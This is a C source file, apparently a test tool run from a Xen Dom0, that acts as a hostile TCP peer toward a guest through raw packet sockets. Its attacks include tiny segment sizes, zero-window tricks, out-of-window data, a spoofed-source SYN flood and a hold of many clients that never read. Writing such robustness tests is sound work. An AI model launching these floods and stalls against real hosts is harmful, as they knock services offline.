// SPDX-License-Identifier: GPL-2.0-only
/*
 * In Dom0: what a hostile peer does to a guest's TCP, below any socket, from an address of its own.
 *
 *	netattack mss INTERFACE FROM TO PORT [PATH]	a segment size in an established connection
 *	netattack probe INTERFACE FROM TO PORT [PATH]	the last byte goes by window probe
 *	netattack window INTERFACE FROM TO PORT [PATH]	a small window after none
 *	netattack beyond INTERFACE FROM TO PORT	data out of order beyond the window
 *	netattack syn FROM TO PORT COUNT PER-SECOND	SYNs from addresses from FROM on, which nobody has
 *	netattack hold TO PORT PATH COUNT SECONDS	clients that ask and never read
 *
 * Succeeds when it has done what it says; whether the guest lives is for others to see.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <netpacket/packet.h>
#include <poll.h>
#include <sys/ioctl.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#define WAIT_MS	    5000
#define HOLDERS_MAX 1000
#define REQUEST	    "GET / HTTP/1.1\r\nHost: x\r\nConnection: keep-alive\r\n\r\n"

static uint8_t mac[ETH_ALEN]; /* the interface's: a bridge keeps others' from us */
static uint8_t guest_mac[ETH_ALEN] = { 0xff, 0xff, 0xff, 0xff, 0xff, 0xff };
static uint32_t from, to; /* network byte order */
static const char *path = "/";
static uint16_t port, source;
static uint32_t seq, ack, window;
static size_t got; /* bytes of data */
static int fd;

static void fail(const char *what)
{
	fprintf(stderr, "netattack: %s: %s\n", what, strerror(errno));
	exit(1);
}

static uint64_t now_ms(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (uint64_t)ts.tv_sec * 1000 + (uint64_t)ts.tv_nsec / 1000000;
}

static uint16_t sum(const void *data, size_t len, uint32_t start)
{
	const uint8_t *at = data;

	for (; len > 1; len -= 2, at += 2)
		start += (uint32_t)at[0] << 8 | at[1];
	if (len)
		start += (uint32_t)*at << 8;
	while (start >> 16)
		start = (start & 0xffff) + (start >> 16);
	return htons((uint16_t)~start);
}

/* IP and TCP headers with options (a multiple of 4 bytes) and data; returns the length. */
static size_t packet_make(uint8_t *at, uint8_t flags, const void *options, size_t optlen,
			  const void *data, size_t len)
{
	struct iphdr *ip = (void *)at;
	struct tcphdr *tcp = (void *)(ip + 1);
	size_t tcp_len = sizeof(*tcp) + optlen + len;
	uint32_t pseudo = ntohs(from & 0xffff) + ntohs(from >> 16) + ntohs(to & 0xffff) +
			  ntohs(to >> 16) + IPPROTO_TCP + (uint32_t)tcp_len;

	memset(at, 0, sizeof(*ip) + sizeof(*tcp));
	ip->version = 4;
	ip->ihl = 5;
	ip->tot_len = htons((uint16_t)(sizeof(*ip) + tcp_len));
	ip->ttl = 64;
	ip->protocol = IPPROTO_TCP;
	ip->saddr = from;
	ip->daddr = to;
	ip->check = sum(ip, sizeof(*ip), 0);
	tcp->source = htons(source);
	tcp->dest = htons(port);
	tcp->seq = htonl(seq);
	tcp->ack_seq = flags & TH_ACK ? htonl(ack) : 0;
	tcp->doff = (sizeof(*tcp) + optlen) / 4 & 15;
	((uint8_t *)tcp)[13] = flags;
	tcp->window = htons((uint16_t)window);
	memcpy(tcp + 1, options, optlen);
	memcpy((uint8_t *)(tcp + 1) + optlen, data, len);
	tcp->check = sum(tcp, tcp_len, pseudo);
	return sizeof(*ip) + tcp_len;
}

static void frame_send(uint8_t *frame, uint16_t type, size_t len)
{
	memcpy(frame, guest_mac, ETH_ALEN);
	memcpy(frame + ETH_ALEN, mac, ETH_ALEN);
	frame[12] = (uint8_t)(type >> 8);
	frame[13] = (uint8_t)type;
	if (write(fd, frame, ETH_HLEN + len) < 0)
		fail("write");
}

static void segment(uint8_t flags, const void *options, size_t optlen, const void *data, size_t len)
{
	uint8_t frame[ETH_FRAME_LEN];

	frame_send(frame, ETHERTYPE_IP,
		   packet_make(frame + ETH_HLEN, flags, options, optlen, data, len));
	seq += (uint32_t)len + !!(flags & TH_SYN);
}

static void acknowledge(uint32_t new_window)
{
	window = new_window;
	segment(TH_ACK, "", 0, "", 0);
}

static void arp(uint16_t operation)
{
	uint8_t frame[ETH_HLEN + 28] = { 0 }, *at = frame + ETH_HLEN;

	memcpy(at, "\0\1\10\0\6\4\0", 7);
	at[7] = (uint8_t)operation;
	memcpy(at + 8, mac, ETH_ALEN);
	memcpy(at + 14, &from, 4);
	memcpy(at + 18, guest_mac, ETH_ALEN);
	memcpy(at + 24, &to, 4);
	frame_send(frame, ETHERTYPE_ARP, 28);
}

/* The next segment of the connection within so long; ARP is answered meanwhile.  False: none. */
static bool receive(struct tcphdr *tcp, int wait_ms)
{
	uint64_t end = now_ms() + (uint64_t)wait_ms;
	uint8_t frame[2048];
	struct iphdr ip;

	while (now_ms() < end) {
		struct pollfd p = { .fd = fd, .events = POLLIN };
		ssize_t len;

		if (poll(&p, 1, (int)(end - now_ms())) <= 0)
			return false;
		len = read(fd, frame, sizeof(frame));
		if (len >= ETH_HLEN + 28 && frame[12] == 8 && frame[13] == 6 &&
		    !memcmp(frame + ETH_HLEN + 14, &to, 4) &&
		    !memcmp(frame + ETH_HLEN + 24, &from, 4)) {
			memcpy(guest_mac, frame + ETH_ALEN, ETH_ALEN);
			if (frame[ETH_HLEN + 7] == 1)
				arp(2);
			continue;
		}
		memcpy(&ip, frame + ETH_HLEN, sizeof(ip));
		if (len < ETH_HLEN + 40 || frame[12] != 8 || frame[13] || ip.saddr != to ||
		    ip.daddr != from || ip.protocol != IPPROTO_TCP)
			continue;
		memcpy(tcp, frame + ETH_HLEN + sizeof(ip), sizeof(*tcp));
		if (tcp->dest != htons(source))
			continue;
		len = ntohs(ip.tot_len) - (ssize_t)sizeof(ip) - tcp->doff * 4;
		if (tcp->syn || ntohl(tcp->seq) == ack) {
			ack = ntohl(tcp->seq) + (uint32_t)len + tcp->syn + tcp->fin;
			got += (size_t)len;
		}
		return true;
	}
	return false;
}

static void interface_open(const char *name)
{
	struct sockaddr_ll addr = { .sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_ALL) };
	struct ifreq request = { 0 };
	struct tcphdr tcp;

	snprintf(request.ifr_name, sizeof(request.ifr_name), "%s", name);
	addr.sll_ifindex = (int)if_nametoindex(name);
	fd = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL));
	if (fd < 0 || bind(fd, (void *)&addr, sizeof(addr)) || ioctl(fd, SIOCGIFHWADDR, &request))
		fail(name);
	memcpy(mac, request.ifr_hwaddr.sa_data, ETH_ALEN);
	arp(1);
	(void)receive(&tcp, 500); /* the answer, if not with the SYN */
	source = (uint16_t)(20000 + getpid() % 20000);
}

/* Open a connection with that window, before and after. */
static void connect_with(uint32_t syn_window, uint32_t ack_window)
{
	struct tcphdr tcp;

	window = syn_window;
	seq = (uint32_t)time(NULL);
	segment(TH_SYN, "", 0, "", 0);
	do {
		if (!receive(&tcp, WAIT_MS)) {
			errno = ETIMEDOUT;
			fail("connect");
		}
	} while (!tcp.syn);
	acknowledge(ack_window);
}

static void ask(void)
{
	char request[300];

	snprintf(request, sizeof(request),
		 "GET %s HTTP/1.1\r\nHost: x\r\nConnection: keep-alive\r\n\r\n", path);
	if (port == 80)
		segment(TH_ACK | TH_PUSH, "", 0, request, strlen(request));
}

static void listen_for(int ms)
{
	uint64_t end = now_ms() + (uint64_t)ms;
	struct tcphdr tcp;

	while (now_ms() < end)
		(void)receive(&tcp, (int)(end - now_ms()));
}

static void attack_mss(void)
{
	connect_with(0, 0);
	ask();
	listen_for(500);
	window = 10;
	segment(TH_ACK, "\2\4\0\1", 4, "", 0);
	listen_for(3000);
}

/* Windows grow from none to a few bytes. */
static void attack_window(void)
{
	uint32_t n;

	connect_with(0, 0);
	ask();
	for (n = 1; n < 12; n++) {
		listen_for(500);
		acknowledge(n);
	}
	listen_for(2000);
}

/* Take the answer but its last byte, which may be any; then acknowledge the probes, with no window. */
static void attack_probe(void)
{
	struct tcphdr tcp;
	uint32_t size;

	connect_with(65535, 65535);
	ask();
	while (!got && receive(&tcp, WAIT_MS))
		;
	listen_for(500);
	size = (uint32_t)got;
	acknowledge(65535);
	segment(TH_RST | TH_ACK, "", 0, "", 0);
	source++;
	got = 0;
	connect_with(size - 1, size - 1);
	ask();
	while (got < size - 1 && receive(&tcp, WAIT_MS))
		acknowledge(size - 1 - (uint32_t)got);
	while (got < size && receive(&tcp, WAIT_MS))
		acknowledge(0);
	acknowledge(0);
	listen_for(3000);
	printf("netattack: %zu of %u bytes\n", got, size);
}

static void attack_beyond(void)
{
	static const uint8_t zeros[1460];
	uint32_t begin, at = 16 * 1460;

	connect_with(65535, 65535);
	begin = seq;
	seq = begin + at - 1;
	segment(TH_ACK, "", 0, zeros, 1000);
	while (at) {
		at -= 1460;
		seq = begin + at;
		segment(TH_ACK, "", 0, zeros, sizeof(zeros));
	}
	listen_for(2000);
}

static void attack_syn(unsigned long count, unsigned long per_second)
{
	struct sockaddr_in peer = { .sin_family = AF_INET, .sin_addr.s_addr = to };
	uint32_t first = ntohl(from);
	uint8_t packet[64];
	unsigned long n;
	size_t len;

	fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
	if (fd < 0)
		fail("socket");
	window = 5840;
	for (n = 0; n < count; n++) {
		from = htonl(first + (uint32_t)n % 20);
		source = (uint16_t)(1024 + n);
		seq = (uint32_t)n * 12345;
		len = packet_make(packet, TH_SYN, "", 0, "", 0);
		if (sendto(fd, packet, len, 0, (void *)&peer, sizeof(peer)) < 0)
			fail("sendto");
		usleep((useconds_t)(1000000 / per_second));
	}
}

static void attack_hold(unsigned long count, unsigned int seconds)
{
	struct sockaddr_in peer = { .sin_family = AF_INET,
				    .sin_addr.s_addr = to,
				    .sin_port = htons(port) };
	char request[300];
	unsigned long n;
	int small = 2048, s, asked = 0;

	snprintf(request, sizeof(request), "GET %s HTTP/1.0\r\n\r\n", path);
	for (n = 0; n < count && n < HOLDERS_MAX; n++) {
		s = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
		if (s < 0)
			fail("socket");
		(void)setsockopt(s, SOL_SOCKET, SO_RCVBUF, &small, sizeof(small));
		if (connect(s, (void *)&peer, sizeof(peer)) && errno != EINPROGRESS)
			continue;
		usleep(25000);
		asked += write(s, request, strlen(request)) > 0;
	}
	printf("netattack: %d of %lu clients have asked\n", asked, count);
	fflush(stdout);
	sleep(seconds);
}

int main(int argc, char **argv)
{
	static const struct {
		const char *name;
		void (*run)(void);
	} attacks[] = {
		{ "mss", attack_mss },
		{ "probe", attack_probe },
		{ "window", attack_window },
		{ "beyond", attack_beyond },
	};
	size_t n;

	if (argc == 7 && !strcmp(argv[1], "syn")) {
		from = inet_addr(argv[2]);
		to = inet_addr(argv[3]);
		port = (uint16_t)atoi(argv[4]);
		attack_syn(strtoul(argv[5], NULL, 10), strtoul(argv[6], NULL, 10));
		return 0;
	}
	if (argc == 7 && !strcmp(argv[1], "hold")) {
		to = inet_addr(argv[2]);
		port = (uint16_t)atoi(argv[3]);
		path = argv[4];
		attack_hold(strtoul(argv[5], NULL, 10), (unsigned int)atoi(argv[6]));
		return 0;
	}
	for (n = 0; (argc == 6 || argc == 7) && n < sizeof(attacks) / sizeof(*attacks); n++) {
		if (strcmp(argv[1], attacks[n].name))
			continue;
		from = inet_addr(argv[3]);
		to = inet_addr(argv[4]);
		port = (uint16_t)atoi(argv[5]);
		path = argc == 7 ? argv[6] : path;
		interface_open(argv[2]);
		attacks[n].run();
		return 0;
	}
	fprintf(stderr, "usage: see the beginning of netattack.c\n");
	return 2;
}
